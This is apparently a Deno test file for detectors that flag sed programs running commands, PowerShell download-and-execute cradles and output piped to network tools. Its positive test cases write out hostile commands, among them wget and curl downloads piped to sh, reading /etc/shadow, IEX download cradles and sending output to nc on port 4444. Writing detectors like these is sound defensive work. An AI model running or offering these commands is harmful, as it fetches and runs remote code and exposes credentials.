import assert from "node:assert/strict";
import { outputToNetwork, powershellCradle, sedExecutes } from "./_cmd_exec.ts";

Deno.test("sedExecutes() finds the e flag of s/// and the e command with a command in them", () => {
  for (
    const s of [
      "s/.*/wget -O- http:\\/\\/198.51.100.5\\/s|sh/e",
      "1e cat /etc/shadow",
      "s#^#curl -s 203.0.113.5/x | sh#ge",
      "/^root/ e id",
      "$ e uname -a",
    ]
  ) {
    assert.ok(sedExecutes(s), s);
  }
});

Deno.test("sedExecutes() passes ordinary sed programs and prose", () => {
  for (
    const s of [
      "s/colour/color/g",
      "s/\\bfoo\\b/bar/gI",
      "1d;$d",
      "e.g. see the docs",
      "s/e/E/",
    ]
  ) {
    assert.equal(sedExecutes(s), false, s);
  }
});

Deno.test("powershellCradle() finds code downloaded then evaluated, in any casing", () => {
  for (
    const s of [
      "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
      "& ([ScriptBlock]::Create((iwr x.example/s).Content))",
      "(irm https://x.example/p) | InVoKe-ExPrEsSiOn",
    ]
  ) {
    assert.ok(powershellCradle(s), s);
  }
  assert.equal(powershellCradle("Get-ChildItem | Invoke-Expression"), null);
  assert.equal(powershellCradle("iwr https://example.com -OutFile a.zip"), null);
});

Deno.test("outputToNetwork() finds >(…) into a network tool only", () => {
  assert.ok(outputToNetwork("log >(nc 203.0.113.5 4444)"));
  assert.ok(outputToNetwork(">(curl -T - https://x.example)"));
  assert.equal(outputToNetwork("tee >(gzip > out.gz)"), null);
  assert.equal(outputToNetwork("a >(b"), null);
});
